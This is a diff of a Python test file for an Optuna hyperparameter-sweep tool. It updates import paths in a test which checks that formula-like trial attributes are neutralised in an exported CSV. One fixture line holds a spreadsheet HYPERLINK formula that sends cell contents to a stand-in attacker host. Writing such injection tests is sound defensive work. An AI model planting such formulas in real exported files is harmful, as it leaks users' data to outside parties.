@@ -12,8 +12,9 @@ import optuna
 from optuna.trial import TrialState, create_trial
 
 from tasks.core.config.yaml_io import load_params
-from tasks.tools import sweep as search
-from tasks.tools.sweep_results import TRIALS, summarise, write_study
+from tasks.tools.sweep.results import TRIALS, summarise, write_study
+from tasks.tools.sweep.space import distributions
+from tasks.tools.sweep.study import JOURNAL, open_study
 from tests.conftest import write_params
 
 HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")'
@@ -31,12 +32,12 @@ def test_formula_like_user_attrs_of_a_stored_trial_are_neutralised_in_trials_csv
     cfg = load_params(
         write_params(tmp_path / "params.yaml", {"sweep": {"trials": 2, "batch": 1, "space": space}})
     ).sweep
-    search.open_study(cfg, None, tmp_path / "study", "fp")  # the sweep made the study
-    journal = optuna.storages.journal.JournalFileBackend(str(tmp_path / "study" / search.JOURNAL))
+    open_study(cfg, None, tmp_path / "study", "fp")  # the sweep made the study
+    journal = optuna.storages.journal.JournalFileBackend(str(tmp_path / "study" / JOURNAL))
     study = optuna.load_study(study_name=cfg.name, storage=optuna.storages.JournalStorage(journal))
     # another writer of the storage adds a trial whose params pass the sweep's checks and whose
     # attributes are formulas; a genuine one beside it keeps its numbers
-    dists = search.distributions(cfg.space)  # params.yaml's space, with train.lr as above
+    dists = distributions(cfg.space)  # params.yaml's space, with train.lr as above
     params = {key: getattr(d, "low", None) if hasattr(d, "low") else d.choices[0] for key, d in dists.items()}
     params["train.lr"] = 0.01
     study.add_trial(create_trial(params=params, distributions=dists, value=0.5, user_attrs=PLANTED))
